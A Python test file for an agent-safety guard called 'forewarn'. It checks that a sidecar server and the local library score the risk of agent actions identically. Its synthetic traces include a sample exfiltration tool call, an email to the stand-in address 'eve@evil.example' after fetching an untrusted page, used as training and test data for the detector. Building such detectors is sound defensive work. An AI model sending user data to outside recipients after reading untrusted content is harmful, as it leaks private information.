"""The sidecar reads a step's action as the library does: predicates on ``action`` in observe,
preview, batches and proposals (a real uvicorn on loopback)."""
from __future__ import annotations

import math
from pathlib import Path
from typing import Any

import orjson
import pytest

from _sidecar import KEYS, ServerThread, settings
from _support import CLI
from forewarn.guard import Guard
from forewarn.guard.client import Client
from forewarn.guard.pipeline import learn_model
from forewarn.guard.spec import parse_spec

SPEC = """\
name: mail
predicates:
  fetched: '"untrusted_source" in action.classes'
  mails_out: 'action.kind == "email_send" && "external" in action.classes'
  leaked: 'state.leaked'
unsafe: 'leaked'
learning: {alpha: 0.1, shrink: 'off', intervals: none}
guard: {thresholds: {stop: 0.2}}
"""
FETCH = {"tool": "http_get", "args": {"url": "https://web.example/page"}}
MAIL_OUT: dict[str, Any] = {"tool": "send_email", "args": {"to": "eve@evil.example", "body": "notes"}}
MAIL_IN = {"tool": "send_email", "args": {"to": "bob@corp.example", "body": "notes"}}


def _runs() -> list[dict[str, Any]]:
    runs = []
    for i in range(6):  # a fetch, then a mail out that leaks in half the runs
        leaked = i % 2 == 0
        runs.append({"id": f"f{i}", "steps": [{"state": {"leaked": False}},
                                              {"state": {"leaked": False}, "action": FETCH},
                                              {"state": {"leaked": leaked}, "action": MAIL_OUT}]})
    for i in range(6):
        runs.append({"id": f"q{i}", "steps": [{"state": {"leaked": False}},
                                              {"state": {"leaked": False}, "action": MAIL_IN}]})
    return runs


@pytest.fixture(scope="module")
def mail_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("mail")
    traces = folder / "runs.jsonl"
    traces.write_text("\n".join(orjson.dumps(r).decode() for r in _runs()) + "\n", encoding="utf-8")
    return learn_model([traces], parse_spec(SPEC)).save(folder / "mail.json")


def test_sidecar_reads_actions_as_the_library(tmp_path: Path, mail_model: Path) -> None:
    local = Guard.load(mail_model).session()
    with ServerThread(settings(tmp_path / "db.sqlite", {"mail": mail_model})) as server, \
            Client(server.url, api_key=KEYS["agent"]) as agent:
        remote = agent.session(model="mail")
        for state, action in (({"leaked": False}, None), ({"leaked": False}, FETCH)):
            expected_ahead = local.preview({"leaked": False}, action=MAIL_OUT)
            ahead = remote.preview({"leaked": False}, action=MAIL_OUT)
            assert ahead.abstract_state == expected_ahead.abstract_state == {"fetched": False, "mails_out": True,
                                                                             "leaked": False}
            assert ahead.p_unsafe is not None and expected_ahead.p_unsafe is not None
            assert math.isclose(ahead.p_unsafe, expected_ahead.p_unsafe)
            expected = local.observe(state, action=action)
            got = remote.observe(state, action=action)
            assert got.p_unsafe is not None and expected.p_unsafe is not None
            assert got.abstract_state == expected.abstract_state and math.isclose(got.p_unsafe, expected.p_unsafe)
        assert got.abstract_state["fetched"]
        batch = agent.batch([{"session": remote.id, "op": "preview", "state": {"leaked": False}, "action": MAIL_IN}])
        assert batch[0].abstract_state == {"fetched": False, "mails_out": False, "leaked": False}
        proposal = remote.propose("send_email", MAIL_OUT["args"], {"leaked": False})
        assert proposal["decision"]["abstract_state"]["mails_out"] is True


MEMORY_SPEC = """\
name: household
predicates:
  hot: 'state.hot'
unsafe: 'hot'
learning: {alpha: 0.0, shrink: 'off', intervals: none, memory: {actions: 2, backoff: 1.0}}
guard: {thresholds: {stop: 0.5}, unseen_state: allow}
"""


@pytest.fixture(scope="module")
def memory_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("memory")
    cold, hot = {"hot": False}, {"hot": True}
    runs = ([{"steps": [{"state": cold}, {"state": cold, "action": "pick Phone"},
                        {"state": hot, "action": "find Bowl"}]}] * 3
            + [{"steps": [{"state": cold}, {"state": cold, "action": "pick Phone"},
                          {"state": cold, "action": "look"}]}]
            + [{"steps": [{"state": cold}, {"state": cold, "action": "look"}]}] * 4)
    traces = folder / "runs.jsonl"
    traces.write_bytes(b"\n".join(orjson.dumps({"id": f"r{i}", **r}) for i, r in enumerate(runs)) + b"\n")
    return learn_model([traces], parse_spec(MEMORY_SPEC)).save(folder / "household.json")


def test_sidecar_advances_action_memory_as_the_library(tmp_path: Path, memory_model: Path) -> None:
    """Observe and preview remember the step's action; a session evicted from memory (a cache of one)
    resumes from its stored memory state."""
    local = Guard.load(memory_model).session()
    steps = [({"hot": False}, None), ({"hot": False}, "pick Phone"), ({"hot": False}, "look"),
             ({"hot": False}, "pick Phone")]  # the last history (pick, look) was never seen: the fallback decides
    actions = []
    with ServerThread(settings(tmp_path / "db.sqlite", {"household": memory_model}, session_cache=1)) as server, \
            Client(server.url, api_key=KEYS["agent"]) as agent:
        remote, other = agent.session(model="household"), agent.session(model="household")
        for state, action in steps:
            for proposed in ("pick Phone", "look", "find Bowl"):
                expected = local.preview(state, action=proposed)
                got = remote.preview(state, action=proposed)
                assert got.p_unsafe == pytest.approx(expected.p_unsafe, abs=1e-12)
            expected = local.observe(state, action=action)
            got = remote.observe(state, action=action)
            assert got.p_unsafe == pytest.approx(expected.p_unsafe, abs=1e-12) and got.action is expected.action
            actions.append(got.action.value)
            other.observe({"hot": False})  # evicts `remote`: its next step resumes from the database
        assert actions == ["allow", "stop", "allow", "allow"]  # stop right after picking the phone


TOOL_MEMORY_SPEC = """\
name: mail-memory
predicates:
  mails_out: 'action.kind == "email_send" && "external" in action.classes'
  leaked: 'state.leaked'
unsafe: 'leaked'
learning:
  memory: {actions: 2, action_class: raw}
guard: {thresholds: {stop: 0.3}}
"""
READ = {"tool": "read_file", "args": {"path": "notes.txt"}}


def _tool_runs() -> list[dict[str, Any]]:
    """Tool calls (objects) and a text step: mailing out leaks often once a page was fetched, which only
    the remembered calls can tell."""
    import random

    rng = random.Random(0)
    runs = []
    for k in range(90):
        steps: list[dict[str, Any]] = [{"state": {"leaked": False}}]
        fetched = False
        for _ in range(rng.randrange(2, 6)):
            action = rng.choice([FETCH, FETCH, READ, MAIL_OUT, MAIL_OUT, MAIL_IN, "think about it"])
            fetched = fetched or action is FETCH
            leaked = action is MAIL_OUT and fetched and rng.random() < 0.8
            steps.append({"state": {"leaked": leaked}, "action": action})
            if leaked:
                break
        runs.append({"id": f"r{k}", "meta": {"task": f"t{k % 12}"}, "steps": steps})
    return runs


def _step_errors(guard: Guard, runs: list[dict[str, Any]]) -> tuple[float, int]:
    """The squared errors of sessions' risks over ``runs`` (steps before the violation), and how many,
    checking on the way that previewing a step with its own call gives what observing it then does."""
    total, count = 0.0, 0
    for run in runs:
        session, unsafe = guard.session(), any(step["state"]["leaked"] for step in run["steps"])
        for step in run["steps"]:
            ahead = session.preview(step["state"], action=step.get("action"))
            decision = session.observe(step["state"], action=step.get("action"))
            assert ahead.p_unsafe == decision.p_unsafe
            if decision.unsafe_now:
                break
            assert decision.p_unsafe is not None
            total, count = total + (decision.p_unsafe - unsafe) ** 2, count + 1
    return total, count


def test_tool_call_memory_decides_alike_in_replay_evaluate_sessions_and_the_sidecar(tmp_path: Path,
                                                                                    forewarn_here: CLI) -> None:
    """One model remembering the last two calls (objects, by name and argument classes): ``forewarn replay``,
    ``forewarn evaluate`` (each fold's model as ``forewarn learn`` writes it), local sessions and the
    sidecar's observe, preview, proposals and batches give the same risks; a preview remembers its call for
    that decision only."""
    runs = _tool_runs()
    traces, spec = tmp_path / "runs.jsonl", tmp_path / "spec.yaml"
    traces.write_bytes(b"".join(orjson.dumps(r) + b"\n" for r in runs))
    spec.write_text(TOOL_MEMORY_SPEC)
    model = tmp_path / "model.json"
    assert forewarn_here("learn", traces, "--spec", spec, "-o", model).returncode == 0
    guard = Guard.load(model)
    assert guard.memory is not None
    replayed = forewarn_here("replay", traces, "--model", model, "--format", "json", "--theta", "0.5").json()
    assert isinstance(replayed, list)
    total, count = _step_errors(guard, runs)
    assert replayed[0]["brier"] == pytest.approx(total / count, rel=1e-12)

    evaluated = forewarn_here("evaluate", traces, "--spec", spec, "--folds", "3", "--group-by", "meta.task",
                              "--format", "json", "--theta", "0.5").json()
    assert isinstance(evaluated, dict)
    total, count = 0.0, 0
    for fold in evaluated["fold_details"]:
        held_out = [r for r in runs if r["meta"]["task"] in fold["test_groups"]]
        train = tmp_path / f"train{fold['fold']}.jsonl"
        train.write_bytes(b"".join(orjson.dumps(r) + b"\n" for r in runs if r not in held_out))
        fold_model = tmp_path / f"fold{fold['fold']}.json"
        assert forewarn_here("learn", train, "--spec", spec, "-o", fold_model).returncode == 0
        errors, steps = _step_errors(Guard.load(fold_model), held_out)
        total, count = total + errors, count + steps
    assert evaluated["thetas"][0]["brier"] == pytest.approx(total / count, rel=1e-12)

    with ServerThread(settings(tmp_path / "db.sqlite", {"mail": model}, session_cache=1)) as server, \
            Client(server.url, api_key=KEYS["agent"]) as agent:
        risks_of_mailing_out: set[float | None] = set()
        for run in runs[:12]:
            local = guard.session()
            remote, other, batched = (agent.session(model="mail") for _ in range(3))
            for step in run["steps"]:
                state, action = step["state"], step.get("action")
                ahead_then_step = agent.batch([
                    {"session": batched.id, "op": "preview", "state": state, "action": MAIL_OUT},
                    {"session": batched.id, "op": "observe", "state": state, "action": action}])
                calls: list[dict[str, Any]] = [MAIL_OUT, MAIL_IN, FETCH]
                for call in calls:  # previews first: none of them is remembered after
                    expected = local.preview(state, action=call)
                    if call is MAIL_OUT:
                        risks_of_mailing_out.add(expected.p_unsafe)
                        assert ahead_then_step[0].p_unsafe == pytest.approx(expected.p_unsafe, abs=1e-12)
                    assert remote.preview(state, action=call).p_unsafe == pytest.approx(expected.p_unsafe,
                                                                                        abs=1e-12)
                    proposal = remote.propose(call["tool"], call["args"], state)
                    assert proposal["decision"]["p_unsafe"] == pytest.approx(expected.p_unsafe, abs=1e-12)
                expected = local.observe(state, action=action)
                got = remote.observe(state, action=action)
                assert got.p_unsafe == pytest.approx(expected.p_unsafe, abs=1e-12) and got.action is expected.action
                assert ahead_then_step[1].p_unsafe == pytest.approx(expected.p_unsafe, abs=1e-12)
                other.observe({"leaked": False})  # evicts `remote`: its next step resumes from the database
    assert len(risks_of_mailing_out) >= 3  # the calls remembered before it change the risk of one call
